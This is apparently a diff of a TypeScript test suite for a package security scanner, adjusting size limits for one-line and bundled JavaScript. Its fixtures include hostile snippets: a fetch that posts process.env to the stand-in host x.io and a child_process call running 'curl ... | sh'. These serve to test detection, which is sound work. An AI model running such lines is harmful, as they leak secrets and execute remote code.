@@ -9,11 +9,8 @@ import { scan } from './scan.ts';
 import { allRules } from './rules/all.ts';
 import type { ScannedBuild } from './scanned-file.ts';
 import { deriveCapabilities } from './capabilities.ts';
-import { effectsOf } from './shell/effect-patterns.ts';
+import { effectsOf } from './shell/effects-of.ts';
 import { openBuild } from './open-build.ts';
-import { MAX_PARTS_LENGTH } from './parse/is-bounded.ts';
-import { parseJavaScript, type SyntaxNode } from './parse/parse-javascript.ts';
-import { readInPieces } from './parse/read-in-pieces.ts';
 import { readRuleCases } from '../tests/read-rule-cases.ts';
 import { runs, some } from '../tests/run/runs.ts';
 
@@ -154,11 +151,11 @@ describe('checks', { timeout: 300_000 }, () => {
     }
   });
 
-  it('are bounded on one line of 10 MB, which they read', () => {
-    const found = judged({
-      'a.js': `${'var a=1;'.repeat(1_250_000)}fetch('https://x.io', process.env)`,
-    });
-    expect(aboveInfo(found)).not.toContain('source-unread');
+  it('are bounded on code of 1 MB on one line, which they read, and leave larger code', () => {
+    const code = (size: number): string =>
+      `${'var a=1;'.repeat(size / 8)}fetch('https://x.io', process.env)`;
+    expect(aboveInfo(judged({ 'a.js': code(999_000) }))).not.toContain('source-unread');
+    expect(aboveInfo(judged({ 'a.js': code(10_000_000) }))).toContain('source-unread');
   });
 
   it('are bounded on thousands of files', () => {
@@ -222,7 +219,7 @@ describe('effectsOf()', { timeout: 300_000 }, () => {
   });
 });
 
-describe('a packed bundle', { timeout: 600_000 }, () => {
+describe('a packed bundle', { timeout: 300_000 }, () => {
   const HARMFUL: Readonly<Record<string, string>> = {
     sends: 'fetch("https://x.io/a",{method:"POST",body:JSON.stringify(process.env)});',
     downloads: 'require("child_process").exec("curl -s https://x.io/i.sh|sh");',
@@ -243,11 +240,11 @@ describe('a packed bundle', { timeout: 600_000 }, () => {
     return `(()=>{var e={${modules.join(',')}},t={};function i(n){return t[n]||e[n](t[n]={},t,i)}i(0)})();`;
   }
 
-  it('of 4 MB is read to its end, and shows what is in it anywhere', () => {
+  it('of 900 kB is read to its end, and shows what is in it anywhere', () => {
     const share = fc.double({ min: 0, max: 1, noNaN: true });
     fc.assert(
       fc.property(share, fc.constantFrom(...Object.keys(HARMFUL)), (at, what) => {
-        const found = judged({ 'a.js': bundle(4_000_000, at, HARMFUL[what]!) });
+        const found = judged({ 'a.js': bundle(900_000, at, HARMFUL[what]!) });
         const levels = aboveInfo(found);
         expect(levels).not.toContain('source-unread');
         expect(levels).toContainEqual(
@@ -258,20 +255,8 @@ describe('a packed bundle', { timeout: 600_000 }, () => {
     );
   });
 
-  it('without harm has only a remark about its size', () => {
-    const found = judged({ 'a.js': bundle(4_000_000, 0, '') });
-    expect(aboveInfo(found).filter((code) => code.startsWith('source-'))).toEqual([]);
-  });
-
-  it('of any size is parsed up to a number of characters, and reports that', () => {
-    let parsed = 0;
-    const parse = (text: string): readonly SyntaxNode[] => {
-      parsed += text.length;
-      return parseJavaScript('a.js', text).program.body;
-    };
-    const text = bundle(10_000_000, 0, '');
-    const { gap } = readInPieces(text, { parse, matters: () => true });
-    expect(parsed).toBeLessThan(MAX_PARTS_LENGTH * 1.1);
-    expect(gap).toMatch(/more than \d+ characters/);
+  it('without harm has no remark about its size', () => {
+    const found = judged({ 'a.js': bundle(900_000, 0, '') });
+    expect(found.filter(({ code }) => code.startsWith('source-'))).toEqual([]);
   });
 });
